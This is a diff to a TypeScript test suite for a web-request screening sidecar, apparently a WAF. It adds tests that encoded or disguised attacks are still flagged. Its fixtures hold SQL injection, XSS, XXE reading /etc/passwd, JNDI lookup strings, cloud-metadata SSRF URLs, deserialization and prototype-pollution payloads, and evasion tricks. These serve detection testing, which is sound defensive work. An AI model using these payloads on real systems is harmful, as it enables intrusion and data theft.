@@ -5,6 +5,8 @@ import { Registry } from 'prom-client';
 import t from 'tap';
 import { screening } from '../../../sidecar/edge/screening/capability.ts';
 import { registerScreeningMetrics } from '../../../sidecar/edge/screening/metrics.ts';
+import type { ScreeningPlan } from '../../../sidecar/edge/screening/schema.ts';
+import { compileRules, Screening } from '../../../sidecar/edge/screening/screen.ts';
 import { ScreeningThread } from '../../../sidecar/edge/screening/thread.ts';
 import type { Exchange } from '../../../sidecar/exchange/exchange.ts';
 import { hooksOf, planOf, serve } from '../../fixtures/exchange.ts';
@@ -137,7 +139,7 @@ t.test('what is ordinary passes', async (t) => {
     { headers: { 'content-type': 'image/png' }, body: Buffer.from([0x89, 0x50, 0, 1, 2]) },
     {
       headers: {
-        authorization: "Bearer ' or 1=1",
+        authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqb2UifQ.c2lnbmF0dXJl',
         referer: 'https://localhost/a',
         'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
       },
@@ -190,6 +192,109 @@ t.test('exclusions', async (t) => {
   await t.rejects(hooksFor({ exclusions: [{ detector: 'sql', reason: 'x' }] }), /until|ends on a day/);
 });
 
+t.test('an exclusion is about whole segments, and the element itself', async (t) => {
+  const hooks = await hooksFor({
+    exclusions: [
+      { path: '/reports', reason: 'analysts write SQL', until: '2099-01-01' },
+      { field: 'query', reason: 'analysts write SQL', until: '2099-01-01' },
+    ],
+  });
+  for (const path of ['/reports', '/reports/', '/reports/a%2fb', '/reports/a..b'])
+    t.equal(await said(hooks, { path: `${path}?q=${encodeURIComponent(union)}` }), 'passed', path);
+  for (const path of [
+    '/reportsadmin',
+    '/reports/..%2fadmin',
+    '/reports/..%252fadmin',
+    '/reports/..;/admin',
+    '/reports/..%5cadmin',
+  ])
+    t.match(await said(hooks, { path: `${path}?q=${encodeURIComponent(union)}` }), 'attack_detected', path);
+  const text = xss.replace('<', '&lt;');
+  t.equal(await said(hooks, { headers: xml, body: `<a><query>${text}</query></a>` }), 'passed');
+  t.match(await said(hooks, { headers: xml, body: `<a><note><query/>${text}</note></a>` }), 'attack_detected');
+});
+
+/** `<img ` in EBCDIC. */
+const ebcdic = Buffer.from('4c89948740', 'hex');
+
+t.test('nothing beside an attack hides it', async (t) => {
+  const hooks = await hooksFor();
+  const q = `q=${encodeURIComponent(union)}`;
+  const plus = `q=${union.replaceAll(' ', '+')}`;
+  const typed = (type: string) => ({ 'content-type': type });
+  const halves = Array.from({ length: 110 }, (_, i) => `a${i}=..%2Fa.png`).join('&');
+  const apart = "x' or '1'='1";
+  const base64 = (text: string | Buffer): string => Buffer.from(text as string).toString('base64');
+  const nested = (depth: number, text: string): string =>
+    depth === 0 ? text : JSON.stringify({ a: nested(depth - 1, text) });
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: text of another language
+  const jndi = '${jndi:ldap://x.test/a}';
+  const rows: readonly (readonly [what: string, sent: Sent])[] = [
+    ['a hundred half signs before it', { path: `/a?${halves}&${q}` }],
+    ['zeros that look like UTF-16', { headers: form, body: `a\0b\0=1&${q}` }],
+    ['the mark of UTF-16', { headers: form, body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(q)]) }],
+    ['a charset that is not used', { headers: typed('text/plain; charset=utf-16le'), body: xss }],
+    ['EBCDIC', { headers: typed('text/plain; charset=ibm037'), body: ebcdic }],
+    ['UTF-7', { headers: typed('text/plain; charset=utf-7'), body: '+ADw-img src=x onerror+AD0-alert(1)+AD4-' }],
+    ['UTF-7 in XML', { headers: xml, body: '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>' }],
+    ['a form in UTF-16', { headers: typed('application/x-www-form-urlencoded; charset=utf-16le'), body: 'q=%3c%00' }],
+    ['JSON as bytes', { headers: typed('application/octet-stream'), body: JSON.stringify({ a: xss }) }],
+    ['a form as an image', { headers: typed('image/png'), body: q }],
+    [
+      'JSON as gRPC in HTTP/1.1',
+      { headers: typed('application/grpc'), known: { grpc: true }, body: JSON.stringify({ a: xss }) },
+    ],
+    ['a form without a type', { body: plus }],
+    ['a form as text', { headers: typed('text/plain'), body: plus }],
+    ['a form as JSON', { headers: json, body: plus }],
+    ['JSON as a form', { headers: form, body: '{"a":"1\\u0027 union select 1,2 from users"}' }],
+    ['XML as a form', { headers: form, body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }],
+    ['an apostrophe before a broken JSON', { headers: json, body: `{"z":"O'Brien","b":1,"b":"${apart}"}` }],
+    ['a comment in JSON', { headers: json, body: `{"z":"O'Brien", /* x */ "a":"${apart}"}` }],
+    ['lines of JSON', { headers: typed('application/x-ndjson'), body: `{"z":"O'Brien"}\n{"a":"${apart}"}` }],
+    ['JSON behind a mark', { headers: json, body: `\ufeff${JSON.stringify({ z: "O'Brien", a: apart })}` }],
+    ['JSON six times in JSON', { headers: json, body: nested(6, xss) }],
+    ['a class in JSON', { headers: json, body: '{"@type":"com.sun.rowset.JdbcRowSetImpl"}' }],
+    ['a prototype', { headers: json, body: '{"constructor":{"prototype":{"a":true}}}' }],
+    ['a prototype in a query', { path: '/a?constructor[prototype][a]=1' }],
+    ['parameters of a path', { path: '/a;id=1%20or%20true/b' }],
+    ['a query without names', { path: '/a?http://169.254.169.254/latest/' }],
+    ['a scheme without a token', { headers: { authorization: `Bearer ${jndi}` } }],
+    ['a user', { headers: { authorization: `Basic ${base64("admin' or 1=1--:x")}` } }],
+    ['a key', { headers: { 'x-api-key': jndi } }],
+    ['a trace', { headers: { traceparent: jndi } }],
+    ['a name like a known one', { headers: { 'x-notif-url': 'http://169.254.169.254/latest/' } }],
+    ['a field without a file name', { headers: multipart, body: part('name="c"; filename=""', xss) }],
+    [
+      'a section in the middle',
+      { headers: xml, body: "<a><![CDATA[1' uni]]><![CDATA[on select 1,2 from users--]]></a>" },
+    ],
+    ['base64 in base64', { path: `/a?q=${encodeURIComponent(base64(base64(union)))}` }],
+    [
+      'a byte in base64',
+      { path: `/a?q=${encodeURIComponent(base64(Buffer.concat([Buffer.from([0xff]), Buffer.from(union)])))}` },
+    ],
+    ['blanks of Unicode', { path: `/a?q=${encodeURIComponent('1\u3000union\u2003select\u30001,2')}` }],
+    ['a long comment', { path: `/a?q=1;drop/*${'a'.repeat(100)}*/table/*a*b*/users--` }],
+    ['many blanks in SQL', { path: `/a?q=1;drop%20table${'%20'.repeat(60)}users` }],
+    ['many blanks in a tag', { path: `/a?q=${encodeURIComponent(`<img src=x onerror${' '.repeat(40)}=alert(1)>`)}` }],
+    ['tabs in a URL', { path: `/a?q=${encodeURIComponent(`j${'\t'.repeat(12)}avascript:alert(1)`)}` }],
+    ['many blanks before a command', { path: `/a?q=${encodeURIComponent(`x;${' '.repeat(400)}cat /etc/hostname`)}` }],
+  ];
+  for (const [what, sent] of rows) t.match(await said(hooks, sent), /^attack_detected /, what);
+});
+
+t.test('bodies that are no text', async (t) => {
+  const image = {
+    headers: { 'content-type': 'image/png' },
+    body: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 0xff]),
+  };
+  t.equal(await said(await hooksFor(), image), 'passed');
+  t.equal(await said(await hooksFor({ unreadableBodies: 'Refuse' }), image), 'content_type_unsupported');
+  t.equal(await said(await hooksFor({ unreadableBodies: 'Refuse', mode: 'Detect' }), image), 'passed');
+  t.equal(await said(await hooksFor({ unreadableBodies: 'Refuse' }), { headers: json, body: '{}' }), 'passed');
+});
+
 t.test('threshold, paranoia and detectors', async (t) => {
   const weak = { path: '/a?q=..%2Fa.png' };
   t.match(await said(await hooksFor(), weak), /^passed screening=3 query q: path-step/);
@@ -218,10 +323,29 @@ t.test('budgets', async (t) => {
 
 t.test('messages of gRPC and tunnels pass with their heads screened', async (t) => {
   const hooks = await hooksFor();
-  for (const known of [{ grpc: true }, { webSocket: true }]) {
+  for (const known of [{ grpc: true, minor: 2 }, { webSocket: true }]) {
     t.equal(await said(hooks, { known }), 'passed');
     t.match(await said(hooks, { known, headers: { 'x-a': union } }), 'attack_detected');
   }
+});
+
+t.test('the time ends between two rules of CRS', async (t) => {
+  const rules = Array.from({ length: 500 }, (_, i) => ({
+    ...{ id: i + 1, in: ['body'], operator: 'rx', argument: `(?:a|b|ab)*c|x${i}|a` },
+    ...{ transformations: [], score: 5, level: 1, detector: 'sql' },
+  }));
+  const spec = { rules, timeLimitMs: 1 };
+  const plan = (await planOf(screening, 'RequestScreening', spec, 'sallyport.dev/RequestScreening')) as ScreeningPlan;
+  const one = new Screening(compileRules(plan), '/');
+  one.take('body', '', 'ab'.repeat(7000));
+  t.equal(one.spent, 'time');
+  t.ok(one.hits.length < rules.length, `${one.hits.length} rules were evaluated`);
+});
+
+t.test('a million parameters and elements take no time of their own', async (t) => {
+  const hooks = await hooksFor({ timeLimitMs: 10_000 });
+  t.match(await said(hooks, { headers: form, body: 'a&'.repeat(500_000) }), 'screening_too_costly');
+  t.match(await said(hooks, { headers: xml, body: '<a>'.repeat(300_000) }), 'screening_too_costly');
 });
 
 t.test('rules of CRS are evaluated', async (t) => {
